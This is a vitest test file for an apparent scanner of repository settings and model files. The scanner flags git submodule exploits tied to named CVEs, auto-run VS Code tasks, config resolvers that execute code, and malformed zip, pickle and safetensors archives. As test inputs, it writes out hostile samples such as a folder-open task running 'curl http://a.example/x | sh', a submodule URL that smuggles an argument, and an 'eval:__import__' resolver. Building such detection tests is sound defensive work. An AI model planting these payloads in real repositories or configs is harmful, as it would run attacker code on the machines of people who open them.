// SPDX-License-Identifier: Apache-2.0
import { expect, test } from 'vitest';
import { judged, rulesOf } from './judged.ts';
import { raw, stateDict, u64 } from './pickle-bytes.ts';
import { zipOf } from './zip-bytes.ts';

const task = (command: string) =>
  JSON.stringify({ tasks: [{ label: 'x', command, runOptions: { runOn: 'folderOpen' } }] });
const kaggle = (key: string) => JSON.stringify({ username: 'jdoe', key });
const resolved = (text: string) => `\${${text}}`;
const mlmodel = (more: string) => `flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n${more}`;

test.each([
  // CVE-2018-17456
  ['.gitmodules', '[submodule "x"]\n\tpath = x\n\turl = -u./payload\n', 'block'],
  // CVE-2018-11235
  ['.gitmodules', '[submodule "../../modules/x"]\n\tpath = x\n\turl = https://github.com/a/b\n', 'block'],
  // CVE-2019-19604
  ['.gitmodules', '[submodule "x"]\n\tupdate = !touch x\n', 'block'],
  ['.gitmodules', '[submodule "x"]\n\tpath = third_party/x\n\turl = https://github.com/a/b\n', 'review'],
  ['.gitconfig', '[core]\n\tfsmonitor = ./x\n', 'block'],
  ['notes.ini', '[core]\nfsmonitor = ./x\npath = ../x\nurl = -u\n', 'pass'],
  ['pip.conf', '[global]\nindex-url = https://packages.example/simple\n', 'review'],
  ['pip.conf', '[global]\nindex-url = https://pypi.org/simple\n', 'pass'],
  ['.gitattributes', '*.txt filter=helper\n', 'review'],
  ['.gitattributes', '*.bin filter=lfs diff=lfs merge=lfs -text\n', 'pass'],
  ['.git/hooks/post-checkout', 'id\n', 'block'],
  ['.git/hooks/post-checkout.sample', 'id\n', 'pass'],
  ['docs/hooks/post-checkout', 'id\n', 'pass'],
  ['.vscode/tasks.json', task('curl http://a.example/x | sh'), 'block'],
  ['.vscode/tasks.json', `// tasks\n${task('curl http://a.example/x | sh')}`, 'block'],
  ['.vscode/tasks.json', task('make'), 'review'],
  ['rows.json', '[{"question": "how", "command": "curl http://a.example/x | sh"}]', 'pass'],
  ['.devcontainer/devcontainer.json', '{"postCreateCommand": "pip install x"}', 'review'],
  ['.devcontainer/devcontainer.json', '{"image": "python:3"}', 'pass'],
  ['kaggle.json', kaggle('5c1d0f7f2f7be90ab2d3c9d8f40a1c57'), 'review'],
  ['kaggle.json', kaggle('your key'), 'pass'],
  ['hashes.json', '{"name": "x", "key": "5c1d0f7f2f7be90ab2d3c9d8f40a1c57"}', 'pass'],
  ['MLmodel', mlmodel('    code: code\n'), 'review'],
  ['MLmodel', mlmodel('    python_version: 3.8.1\n'), 'pass'],
  ['conf.yaml', `x: ${resolved('eval:__import__("os").getcwd()')}\n`, 'block'],
  ['conf.yaml', `x: ${resolved('cmd:id')}\n`, 'review'],
  ['conf.yaml', `x: ${resolved('oc.env:HF_TOKEN')}\n`, 'review'],
  ['conf.yaml', `x: ${resolved('oc.env:DATA_DIR')}/${resolved('now:%Y-%m-%d')}/${resolved('eval:2 * 3')}\n`, 'pass'],
  ['readme.md', `Write ${resolved('cmd:id')} there.\n`, 'pass'],
])('settings in %s: %j is %s', async (path, content, verdict) => {
  expect((await judged(content, path)).verdict).toBe(verdict);
});

test('a device in a zip archive is a finding, a plain file of unix is none', async () => {
  const member = (mode: number) => zipOf([{ name: 'a.txt', data: raw('text\n'), central: { mode } }]);
  for (const mode of [0o010644, 0o020666, 0o060660, 0o140755])
    expect(await rulesOf(member(mode), 'a.zip')).toEqual(['archive-device']);
  expect(await rulesOf(member(0o100644), 'a.zip')).toEqual([]);
});

test('a storage that a pickle refers to must be in the archive', async () => {
  const data = { name: 'a/data.pkl', data: stateDict({ w: 4 }) };
  const version = { name: 'a/version', data: raw('3\n') };
  expect(await rulesOf(zipOf([data, version]), 'a.pt')).toEqual(['torch-storage']);
  expect(await rulesOf(zipOf([data, { name: 'a/data/0', data: Buffer.alloc(16) }, version]), 'a.pt')).toEqual([]);
});

test.each([
  ['[0,8]', '[2]', false],
  ['[0,8.0]', '[2]', true],
  ['[0,8e0]', '[2]', true],
  ['[-0,8]', '[2]', true],
  ['[0,8]', '[2.0]', true],
])('a safetensors header with offsets %s and shape %s is malformed: %j', async (offsets, shape, malformed) => {
  const header = `{"a":{"dtype":"F32","shape":${shape},"data_offsets":${offsets}}}`.padEnd(80);
  const rules = await rulesOf(raw(u64(80), header, Buffer.alloc(8)), 'a.safetensors');
  expect(rules.includes('safetensors-malformed')).toBe(malformed);
});
